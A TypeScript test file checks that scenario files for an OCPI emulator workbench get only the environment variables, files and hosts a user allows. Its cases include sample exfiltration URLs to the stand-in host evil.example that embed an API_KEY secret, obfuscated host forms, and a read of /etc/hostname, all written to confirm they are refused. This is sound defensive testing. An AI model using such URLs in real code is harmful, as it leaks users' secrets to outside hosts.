/** A scenario file from somebody else gets only the environment variables, files and hosts that the user allows. */
import { mkdtempSync, rmSync } from 'node:fs'
import { tmpdir } from 'node:os'
import { join } from 'node:path'
import { describe, expect, it, onTestFinished } from 'vitest'
import type { ScenarioStep } from '../../emulator/contract/scenarios.js'
import { openBench } from '../support/bench.js'
import { load, run, scenarioOf, type Given } from './support.js'

const secret = 'a-secret-of-this-computer'
const environment = { API_KEY: secret, OTHER: 'other' }
const allowing = (part: Partial<Record<'env' | 'files' | 'hosts', string[]>>) => ({ env: [], files: [], hosts: [], ...part })
const withKey = (...steps: object[]) => scenarioOf({ secrets: ['API_KEY'], steps: steps as ScenarioStep[] })
const outcomeOf = async (scenario: object, given: Given = {}) => {
  const outcome = await load({ a: scenario }, { environment, ...given })
  return {
    wants: outcome.wants.map(({ kind, name, allowed }) => `${kind} ${name}${allowed ? '' : ' (refused)'}`),
    problems: outcome.ok ? [] : outcome.problems.map(({ message }) => message),
    secrets: outcome.ok ? Object.fromEntries(outcome.loaded.secrets) : {},
  }
}
const nothing = { do: 'clear-faults' }

describe('environment variables', () => {
  it('are read where they are allowed, whether they exist or not', async () => {
    expect(await outcomeOf(withKey(nothing))).toMatchObject({
      wants: ['env API_KEY (refused)'],
      problems: ['the scenario asks for the environment variable API_KEY: allow it with --allow-env API_KEY'],
    })
    expect((await outcomeOf(withKey(nothing), { environment: {} })).problems).toEqual((await outcomeOf(withKey(nothing))).problems)
    expect(await outcomeOf(withKey(nothing), { allow: allowing({ env: ['API_KEY'] }) })).toEqual({
      wants: ['env API_KEY'],
      problems: [],
      secrets: { API_KEY: secret },
    })
    expect((await outcomeOf(withKey(nothing), { allow: allowing({ env: ['API'], hosts: ['API_KEY'] }) })).wants).toEqual([
      'env API_KEY (refused)',
    ])
  })
  it('are not needed where the user gives the value, which wins', async () => {
    expect(await outcomeOf(withKey(nothing), { variables: { API_KEY: 'given' } })).toEqual({
      wants: ['env API_KEY'],
      problems: [],
      secrets: { API_KEY: 'given' },
    })
  })
  it('that a used file asks for are named too', async () => {
    const outcome = await load({ a: scenarioOf({ steps: [{ do: 'use', file: 'b' }] }), b: withKey(nothing) }, { environment })
    expect(outcome.wants).toMatchObject([{ kind: 'env', name: 'API_KEY', file: 'b', allowed: false }])
  })
  it('TOKEN_A is allowed for the platform under test', async () => {
    const given = { environment: { TOKEN_A: secret }, variables: { peer: 'https://ocpi.example.com/versions' } }
    expect((await outcomeOf(scenarioOf({ secrets: ['TOKEN_A'] }), given)).problems).toEqual([])
    expect((await outcomeOf(scenarioOf({ secrets: ['TOKEN_A'] }), { environment: given.environment })).problems).toHaveLength(1)
  })
})

describe('hosts that a scenario with secrets names', () => {
  const allow = allowing({ env: ['API_KEY'] })
  const evil = 'host evil.example (refused)'
  it.each<[string, object, string[]]>([
    ['the url of a registration', { do: 'register', standin: 'cpo', versionsUrl: 'https://evil.example/versions', tokenA: 'a' }, [evil]],
    ['a url with a secret', { do: 'pull', standin: 'cpo', module: 'tokens', url: 'https://evil.example/${API_KEY}' }, [evil]],
    ['a user in front of the host', { do: 'pull', standin: 'cpo', module: 'tokens', url: 'https://127.0.0.1@evil.example/' }, [evil]],
    ['a url without slashes', { do: 'pull', standin: 'cpo', module: 'tokens', url: 'https:evil.example/' }, [evil]],
    [
      'the endpoints of a connection',
      {
        do: 'connect',
        standin: 'cpo',
        parties: [{ role: 'EMSP', country_code: 'DE', party_id: 'MSP' }],
        endpoints: [{ identifier: 'tokens', role: 'SENDER', url: 'https://evil.example/' }],
      },
      [evil],
    ],
    ['the parameters of a call', { do: 'call', call: 'connections.register', params: { versionsUrl: 'https://evil.example/' } }, [evil]],
    ['a secret in a url among data', { do: 'set', variables: { x: 'see https://evil.example/?k=${API_KEY}' } }, [evil]],
    ['not this computer', { do: 'pull', standin: 'cpo', module: 'tokens', url: 'http://localhost:1/${API_KEY}' }, []],
    ['not urls that are data', { do: 'push', standin: 'cpo', module: 'tariffs', object: { tariff_alt_url: 'https://shop.example/' } }, []],
  ])('%s', async (_, step, expected) => {
    expect((await outcomeOf(withKey(step), { allow })).wants).toEqual(['env API_KEY', ...expected])
    expect((await outcomeOf(scenarioOf({ steps: [step as ScenarioStep] }))).wants, 'without secrets nothing is asked').toEqual([])
    expect((await outcomeOf(withKey(step), { allow: allowing({ env: ['API_KEY'], hosts: ['evil.example'] }) })).problems).toEqual([])
  })
  it('the platform under test is allowed', async () => {
    const step = { do: 'register', standin: 'cpo', versionsUrl: 'https://evil.example/versions', tokenA: 'a' }
    expect((await outcomeOf(withKey(step), { allow, variables: { peer: 'https://evil.example/v' } })).problems).toEqual([])
  })
  it('are refused as well where only variables say what they are', async () => {
    const pull = (url: string) => [
      { do: 'set', variables: { scheme: 'http:', at: '//evil.example' } },
      { do: 'pull', standin: 'cpo', module: 'tokens', url },
    ]
    for (const url of ['${scheme}${at}/', '${scheme}//${API_KEY}.evil.example/']) {
      const result = await run(withKey(...pull(url)), { environment, allow })
      expect(result.message).toMatch(/the scenario has secrets and names the host .*evil\.example: allow it with --allow-host/)
      expect(JSON.stringify(result)).not.toContain(secret)
      expect(result.exchangesInAll).toBe(0)
    }
  })
})

describe('files', () => {
  const add = (keyFile: string) => ({
    do: 'call',
    call: 'standins.update',
    params: { standinId: 'cpo', settings: { tls: { keyFile, certFile: keyFile } } },
  })
  it('that a call reads are named, unless they are allowed', async () => {
    const scenario = scenarioOf({ steps: [add('/etc/hostname')] as ScenarioStep[] })
    expect(await outcomeOf(scenario)).toMatchObject({
      wants: ['file /etc/hostname (refused)'],
      problems: ['the scenario asks for the file /etc/hostname, which is not in its folder: allow it with --allow-file /etc/hostname'],
    })
    expect((await outcomeOf(scenario, { allow: allowing({ files: ['/etc/hostname'] }) })).problems).toEqual([])
  })
  it('are refused as well where only variables say which', async () => {
    const result = await run(scenarioOf({ steps: [{ do: 'set', variables: { x: '/etc' } }, add('${x}/hostname')] as ScenarioStep[] }))
    expect(result.message).toMatch(/the scenario asks for the file \/etc\/hostname/)
  })
  it('a scenario runs no others by a call, which would get what nobody allowed', async () => {
    const text = JSON.stringify(withKey(nothing))
    const result = await run(
      scenarioOf({ steps: [{ do: 'call', call: 'scenarios.run', params: { text, allow: allowing({ env: ['PATH'] }) } }] }),
    )
    expect(result.message).toMatch(/a scenario cannot call scenarios\.run/)
  })
})

describe('what is allowed in a workbench', () => {
  const names = allowing({ env: ['STANDIN_TEST_KEY'] })
  const text = JSON.stringify(scenarioOf({ title: 'mine', secrets: ['STANDIN_TEST_KEY'] }))
  const inFolder = () => {
    const folder = mkdtempSync(join(tmpdir(), 'standin-access-'))
    process.env['STANDIN_TEST_KEY'] = secret
    onTestFinished(() => {
      delete process.env['STANDIN_TEST_KEY']
      rmSync(folder, { recursive: true, force: true })
    })
    return folder
  }
  it('is asked for once, remembered for the scenario, and taken back', async () => {
    const workspace = inFolder()
    const first = await openBench({ workspace })
    const { id } = await first.call('scenarios.put', { text })
    await expect(first.call('scenarios.run', { id })).rejects.toThrow(/standin scenarios allow mine --env STANDIN_TEST_KEY/)
    expect((await first.call('scenarios.access', { id })).wants).toMatchObject([{ kind: 'env', name: 'STANDIN_TEST_KEY', allowed: false }])
    expect(await first.call('scenarios.run', { id, allow: names })).toHaveProperty('runId')
    await expect(first.call('scenarios.run', { id }), 'for one run only').rejects.toThrow(/STANDIN_TEST_KEY/)
    await first.call('scenarios.allow', { id, ...names })
    await first.shutDown()

    const second = await openBench({ workspace })
    expect((await second.call('scenarios.access', { id })).wants).toMatchObject([{ allowed: true }])
    await second.call('scenarios.rename', { id, to: 'renamed' })
    expect(await second.call('scenarios.run', { id: 'renamed' })).toHaveProperty('runId')
    const more = JSON.stringify(scenarioOf({ title: 'mine', secrets: ['STANDIN_TEST_KEY', 'PATH'] }))
    await expect(second.call('scenarios.run', { id: 'renamed', text: more }), 'another name is asked for').rejects.toThrow(/variable PATH/)
    expect(await second.call('scenarios.deny', { id: 'renamed' })).toEqual({ allowed: allowing({}) })
    await expect(second.call('scenarios.run', { id: 'renamed' })).rejects.toThrow(/STANDIN_TEST_KEY/)
    await second.call('scenarios.allow', { id: 'renamed', ...names })
    await second.call('scenarios.remove', { id: 'renamed' })
    await second.call('scenarios.put', { id: 'renamed', text })
    await expect(second.call('scenarios.run', { id: 'renamed' }), 'another file of the same name').rejects.toThrow(/STANDIN_TEST_KEY/)
    await expect(second.call('scenarios.allow', { id: 'nothing', ...names })).rejects.toThrow(/there is no scenario nothing/)
  })
})
